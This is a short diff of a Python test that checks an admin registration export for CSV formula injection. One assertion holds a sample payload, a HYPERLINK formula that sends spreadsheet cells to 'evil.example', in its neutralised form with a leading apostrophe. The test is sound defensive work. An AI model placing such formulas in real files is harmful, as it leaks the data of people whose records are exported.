@@ -152,7 +152,7 @@ def test_exports_neutralise_formulas_and_survive_control_characters(admin_client
     text = _download(admin_client.get("/admin/registrations/", {"export": "csv"})).decode("utf-8-sig")
     values = [value for row in csv.reader(io.StringIO(text)) for value in row]
     assert not any(value.startswith(("=", "+", "-", "@")) for value in values)
-    assert "'=HYPERLINK(\"http://evil.example/?leak=\"&E2&F2,\"Xem chi tiết\")" in values
+    assert '\'=HYPERLINK("http://evil.example/?leak="&E2&F2,"Xem chi tiết")' in values
     assert "TruongABC" in values
     xlsx = admin_client.get("/admin/registrations/", {"export": "xlsx"})
     assert xlsx.status_code == 200
